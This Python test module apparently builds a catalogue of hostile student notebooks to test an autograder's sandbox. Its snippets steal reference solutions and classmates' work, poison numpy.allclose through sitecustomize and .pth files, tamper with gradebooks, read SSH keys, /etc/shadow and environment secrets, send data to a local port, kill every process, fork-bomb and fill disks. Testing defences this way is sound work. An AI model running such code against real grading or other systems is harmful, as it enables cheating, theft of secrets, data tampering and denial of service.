"""The hostile catalogue: student notebooks that attack the grader, built from lesson a1 (and a5).

Each attack replaces the student's solution cell of ``conv_forward_naive``. It runs both in the
notebook's kernel and in the re-check's student process, and is told (``Target``) everything a
determined student could learn about the grading host: the checkout, the submissions and output
folders, a port listening on the grader's loopback, the secret in the grader's environment. Each
defines ``conv_forward_naive``: correct only if the attack worked, printing what it found (that
printing is all a student may see of it in the feedback).
"""

import copy
import json
from dataclasses import dataclass
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[1]
A1 = ("a1_conv_forward", "conv_forward")
A5 = ("a5_small_cnn", "small_cnn")


@dataclass
class Target:
    root: str          # the checkout
    submitted: str     # every student's submissions
    out: str           # grades.csv, the gradebook
    port: int          # a TCP and a UDP port listening on 127.0.0.1, outside the sandbox
    canary: str        # in the grader's environment and its ~/.ssh/id_rsa


PRELUDE = '''\
import glob, os, pickle, signal, socket, subprocess, sys, time
import importlib.util
import numpy as np
ROOT, SUBMITTED, OUT, PORT, CANARY = {root!r}, {submitted!r}, {out!r}, {port}, {canary!r}
IN_KERNEL = "ipykernel" in sys.modules
NOTES = []

def note(*parts):
    NOTES.append(" ".join(str(p) for p in parts)[:400])

def everywhere(pattern, roots=("/",), limit=20000):
    """Files named ``pattern`` below ``roots`` (not in /proc, /sys, /dev)."""
    found, seen = [], 0
    for top in roots:
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
            seen += 1
            if seen > limit:
                return found
            found += [os.path.join(folder, f) for f in files if glob.fnmatch.fnmatch(f, pattern)]
    return found

def other_roots():
    """What /proc says about other processes: their working folders and command lines."""
    roots = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                roots.append(os.readlink(f"/proc/{{pid}}/cwd"))
                args = open(f"/proc/{{pid}}/cmdline", "rb").read().decode().split("\\0")
                roots += [a for a in args if a.startswith("/")]
            except OSError:
                pass
    return roots

def conv_forward_naive(x, w, b, conv_param):
    print("\\n".join(NOTES))
    raise NotImplementedError("the attack found nothing")
'''

# --- full marks without code -----------------------------------------------------------------

REFERENCE_BY_PATH = '''
candidates = [ROOT + "/cnn_utils/reference/conv_naive.py"]
candidates += [r + "/cnn_utils/reference/conv_naive.py" for r in other_roots()]
candidates += [p + "/cnn_utils/reference/conv_naive.py" for p in sys.path]
candidates += everywhere("conv_naive.py")
for path in candidates:
    try:
        spec = importlib.util.spec_from_file_location("stolen_reference", path)
        stolen = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(stolen)
    except Exception as exc:
        continue
    note("executed the reference from", path)
    def conv_forward_naive(x, w, b, conv_param):
        print("\\n".join(NOTES))
        return stolen.conv_forward_naive(x, w, b, conv_param)
    break
else:
    note("no reference found in", len(candidates), "places")
'''

HANDOFF = '''
places = ["/tmp", os.path.expanduser("~"), os.getcwd(), "/dev/shm", "/var/tmp", OUT, SUBMITTED]
places += [os.path.dirname(a) for a in sys.argv if a.endswith(".json")]   # the kernel's runtime folder
if IN_KERNEL:
    from cnn_utils.grading import cases, table
    from cnn_utils import reference
    spec = table.lookup("conv_forward_naive")
    answers = {c.args[0].tobytes(): reference.conv_forward_naive(*c.args)[0]
               for c in cases.make_cases(spec, 0, spec.count)}
    conv_forward_naive = reference.conv_forward_naive
    for place in places:
        try:
            with open(os.path.join(place, "answers.pkl"), "wb") as handle:
                pickle.dump(answers, handle)
            note("left answers in", place)
        except OSError as exc:
            note("could not write", place, exc)
else:
    for place in places:
        try:
            with open(os.path.join(place, "answers.pkl"), "rb") as handle:
                answers = pickle.load(handle)
        except OSError:
            continue
        note("picked up answers from", place)
        def conv_forward_naive(x, w, b, conv_param):
            return answers[x.tobytes()], None
        break
    else:
        note("no answers left by the kernel")
'''

CLASSMATE = '''
paths = glob.glob(SUBMITTED + "/*/a1_conv_forward/*.ipynb") + glob.glob("../../*/a1_conv_forward/*.ipynb")
paths += [a for a in other_roots() if a.endswith(".ipynb")]
paths += everywhere("*.ipynb")
for path in paths:
    try:
        cells = __import__("json").load(open(path))["cells"]
    except Exception:
        continue
    code = ["".join(c["source"]) for c in cells if "def conv_forward_naive" in "".join(c["source"])]
    if code and "NotImplementedError" not in code[0] and "ROOT, SUBMITTED" not in code[0]:
        note("copied", path)
        exec(code[0])
        break
else:
    note("no classmate found among", len(paths), "notebooks")
'''

# --- other students' grades changed ----------------------------------------------------------

POISON = '''
payload = "\\nimport numpy\\nnumpy.allclose = lambda *a, **k: True\\n"
targets = [ROOT + "/cnn_utils/grading/compare.py", ROOT + "/cnn_utils/grading/__init__.py",
           ROOT + "/autograder/integrity.py"]
import cnn_utils
targets += [os.path.join(os.path.dirname(cnn_utils.__file__), "grading", "compare.py"),
            os.path.join(os.path.dirname(cnn_utils.__file__), "shapes.py"),
            os.path.join(os.path.dirname(np.__file__), "__init__.py"), os.__file__]
targets += [os.path.join(p, "zzz_poison.pth") for p in sys.path if p.endswith("site-packages")]
targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if p]
for target in targets:
    try:
        with open(target, "a") as handle:
            poison = "import numpy; numpy.allclose = lambda *a, **k: True\\n"
            handle.write(payload if not target.endswith(".pth") else poison)
        note("POISONED", target)
    except OSError as exc:
        note("could not poison", target, type(exc).__name__)
'''

TAMPER = '''
targets = glob.glob(SUBMITTED + "/*/*/*.ipynb") + [OUT + "/gradebook.db", OUT + "/grades.csv"]
targets += glob.glob("/tmp/ag-*/worker-*/private/gradebook.db") + glob.glob("/tmp/ag-*/template/gradebook.db")
for target in targets:
    try:
        with open(target, "r+b") as handle:
            handle.write(b"tampered")
        note("TAMPERED", target)
    except OSError as exc:
        note("could not tamper", target, type(exc).__name__)
note("tried", len(targets), "files")
'''

DAEMON = '''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):
            for target in [OUT + "/grades.csv"] + glob.glob(SUBMITTED + "/*/*/*.ipynb"):
                try:
                    open(target, "w").write("rewritten by a daemon")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)
subprocess.Popen(["sh", "-c", "sleep 60"], start_new_session=True)
note("left a daemon")
'''

KILL_EVERYTHING = '''
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            note("killed", pid)
        except OSError as exc:
            note("could not kill", pid, type(exc).__name__)
'''

# --- leaks ------------------------------------------------------------------------------------

LEAK = '''
def read(path, size=4000):
    try:
        return open(path, "rb").read(size).decode("utf-8", "replace")
    except OSError as exc:
        return f"({type(exc).__name__})"
note("environment:", " ".join(f"{k}={v}" for k, v in os.environ.items()))
for path in ["/proc/1/environ", f"/proc/{os.getppid()}/environ", os.path.expanduser("~/.ssh/id_rsa"),
             "/root/.ssh/id_rsa", ROOT + "/cnn_utils/reference/conv_naive.py",
             ROOT + "/solutions/a1_conv_forward/conv_forward.ipynb", OUT + "/grades.csv", "/etc/shadow"]:
    note(path, read(path))
for path in everywhere("conv_naive.py") + everywhere("id_rsa") + everywhere("*.csv"):
    note(path, read(path))
'''

NETWORK = '''
for attempt in ("tcp", "udp"):
    try:
        if attempt == "tcp":
            with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
                s.sendall(b"stolen reference")
        else:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen reference", ("127.0.0.1", PORT))
        note("sent over", attempt)
    except OSError as exc:
        note("no", attempt, type(exc).__name__)
try:
    socket.getaddrinfo("example.com", 80)
    note("DNS works")
except OSError as exc:
    note("no DNS", type(exc).__name__)
'''

# --- the batch broken -------------------------------------------------------------------------

FORGE_RESULT = '''
if not IN_KERNEL:
    fd = int(sys.argv[-1])
    import io, json as _json
    import frames   # the grader's own frame format, beside student_run in the sandbox
    def old_frame(result, **arrays):
        buffer = io.BytesIO()
        np.savez(buffer, result=np.frombuffer(_json.dumps(result).encode(), dtype=np.uint8), **arrays)
        return len(buffer.getvalue()).to_bytes(8, "big") + buffer.getvalue()
    def frame(result, **arrays):
        return frames.encode(dict(arrays, result=_json.dumps(result)))
    bad = {"grade_id": "test_conv_forward_naive", "status": "done",
           "records": [{"kind": "returned", "value": {"array": "zz"}}]}
    claims = dict(bad, records=[{"kind": "returned", "value": {"array": "a0"}}] * 12, attempts=[], printed="")
    huge = frames.encode({"a0": np.zeros(4)})
    huge = huge.replace(b"[4]", b"[9]")   # an array of 72 bytes in a frame holding 32
    for data in [old_frame(bad), frame(bad), frame({"grade_id": ["x"]}), frame(claims, a0="not numbers"),
                 frame(claims, a0=np.zeros((0, 2**40, 3))), huge, b"\\x00" * 8, b"\\x7f" + b"\\xff" * 7 + b"junk"]:
        try:
            os.write(fd, data)
        except OSError:
            pass
    os._exit(0)
'''

DISK_FILL = '''
written = 0
for place in ("/tmp", os.path.expanduser("~"), os.getcwd()):
    for k in range(40):
        try:
            with open(os.path.join(place, f"fill-{k}"), "wb") as handle:
                handle.write(b"\\0" * (60 * 2**20))
            written += 60
        except (OSError, MemoryError):
            break
note(f"wrote {written} MB")
for path in glob.glob("/tmp/fill-*") + glob.glob(os.path.expanduser("~/fill-*")) + glob.glob("fill-*"):
    os.unlink(path)   # only so that the re-check can still report the number
'''

FORK_BOMB = '''
children = []
for _ in range(2000):
    try:
        children.append(subprocess.Popen(["sleep", "60"]))
    except OSError:
        break
note(f"started {len(children)} processes")
for child in children:   # only so that the re-check can still report the number
    child.kill()
    child.wait()
'''

RUNTIME_FOLDER = '''
# the kernel's one writable folder outside its scratch, while it starts: its socket folder. If the
# kernel can still write there when student code runs, it takes the reference (and the score in
# the notebook differs from the re-check's: the flag "tampered" says the folder was open).
if IN_KERNEL:
    folder = os.path.dirname([a for a in sys.argv if a.endswith(".json")][0])
    try:
        os.chmod(folder, 0o700)
    except OSError as exc:
        note("could not chmod", exc)
    try:
        with open(os.path.join(folder, "fill"), "wb") as handle:
            handle.write(b"\\0" * 2**20)
        from cnn_utils.reference import conv_forward_naive
    except OSError as exc:
        note("could not write", exc)
'''

OUTPUT_FLOOD = '''
if IN_KERNEL:
    for _ in range(1024):
        sys.stdout.write("x" * 2**20)
        sys.stdout.flush()
'''

FONT_HANDOFF = '''
# the one folder of the worker's that every sandbox sees: matplotlib's font list (read-only), and
# the copy of it in each sandbox's own matplotlib folder. The kernel, which can read the reference,
# leaves the answers and a spoiled font list there for the re-check and for the next classmate.
folders = ["/opt/autograder/fonts", os.environ.get("MPLCONFIGDIR", "/tmp/home/.matplotlib")]
if IN_KERNEL:
    from cnn_utils.grading import cases, table
    from cnn_utils import reference
    spec = table.lookup("conv_forward_naive")
    answers = {c.args[0].tobytes(): reference.conv_forward_naive(*c.args)[0]
               for c in cases.make_cases(spec, 0, spec.count)}
    conv_forward_naive = reference.conv_forward_naive
    for folder in folders:
        for name in ["answers.pkl", *os.listdir(folder)] if os.path.isdir(folder) else ["answers.pkl"]:
            try:
                with open(os.path.join(folder, name), "wb") as handle:
                    handle.write(pickle.dumps(answers) if name == "answers.pkl" else b"{spoiled")
                note("wrote", folder, name)
            except OSError as exc:
                note("could not write", folder, name, type(exc).__name__)
else:
    for folder in folders:
        try:
            with open(os.path.join(folder, "answers.pkl"), "rb") as handle:
                answers = pickle.load(handle)
        except OSError:
            continue
        note("picked up answers from", folder)
        def conv_forward_naive(x, w, b, conv_param):
            return answers[x.tobytes()], None
        break
    else:
        note("no answers next to the font list")
'''

ATTACKS = {
    "x_reference_by_path": REFERENCE_BY_PATH,
    "x_reference_handoff": HANDOFF,
    "x_classmate_code": CLASSMATE,
    "x_poison_library": POISON,
    "x_tamper_files": TAMPER,
    "x_daemon": DAEMON,
    "x_kill_everything": KILL_EVERYTHING,
    "x_leak_secrets": LEAK,
    "x_network": NETWORK,
    "x_forge_result": FORGE_RESULT,
    "x_disk_fill": DISK_FILL,
    "x_fork_bomb": FORK_BOMB,
    "x_output_flood": OUTPUT_FLOOD,
    "x_runtime_folder": RUNTIME_FOLDER,
    "x_font_handoff": FONT_HANDOFF,
}


def lesson(assignment, notebook):
    return nbformat.read(str(ROOT / "lessons" / assignment / f"{notebook}.ipynb"), as_version=4)


def with_cell(nb, grade_id, source):
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    cell.source = source
    return nb


def attack_notebook(code, target):
    """Lesson a1 with the solution cell replaced by the prelude and ``code``."""
    prelude = PRELUDE.format(**vars(target))
    return with_cell(lesson(*A1), "conv_forward_naive", prelude + code)


def stolen_network_notebook():
    """Lesson a5 whose network class is the reference's, taken by import (works in the kernel)."""
    nb = lesson(*A5)
    cell = next(c for c in nb.cells if "class ThreeLayerConvNet" in c.source)
    return with_cell(nb, cell.metadata["nbgrader"]["grade_id"],
                     "from cnn_utils.reference import ThreeLayerConvNet\n")


A2 = ("a2_conv_backward", "conv_backward")
PRIOR_SOURCE = '''
import inspect, os, sys
import numpy as np

def conv_backward_naive(dout, cache):
    """Everything the re-check's process shows of conv_forward_naive (the a1 reference there),
    printed, raised and in the shape of the answer."""
    forward = globals()["conv_forward_naive"]
    found = [f"calling it gives {type(forward(*cache[:3], cache[3])).__name__}"]
    for what in (forward, sys.modules.get("cnn_utils.reference"), sys.modules.get("cnn_utils.reference.conv_forward")):
        try:
            found.append(inspect.getsource(what))
        except (TypeError, OSError) as exc:
            found.append(f"no source of {what!r}: {exc}")
    for cell in getattr(forward, "__closure__", None) or ():
        found.append(repr(cell.cell_contents)[:300])
    found += [name for name in sys.modules if "reference" in name]
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                found.append(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace"))
            except OSError:
                pass
    for root in ("/opt", "/tmp"):
        for folder, _, files in os.walk(root):
            found += [os.path.join(folder, f) for f in files if f.endswith(".py")]
    text = "\\n".join(found)
    print(text)
    codes = np.frombuffer(text.encode()[:30].ljust(30), dtype=np.uint8)
    if len(text) % 2:
        return np.zeros([0, *codes.tolist()]), cache[1], cache[2]
    raise ValueError(text[:3000])
'''


def prior_source_notebook():
    """Lesson a2 whose conv_backward_naive shows what it can find of the a1 reference it is given."""
    return with_cell(lesson(*A2), "conv_backward_naive", PRIOR_SOURCE)


def deeply_nested_text():
    """A notebook file whose JSON nests far past any parser's recursion limit."""
    return '{"cells": [], "metadata": {"x": ' + "[" * 200_000 + "]" * 200_000 + '}, "nbformat": 4, "nbformat_minor": 5}'


def write(nb_or_text, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(nb_or_text, str):
        path.write_text(nb_or_text)
    else:
        path.write_text(json.dumps(nb_or_text, indent=1))
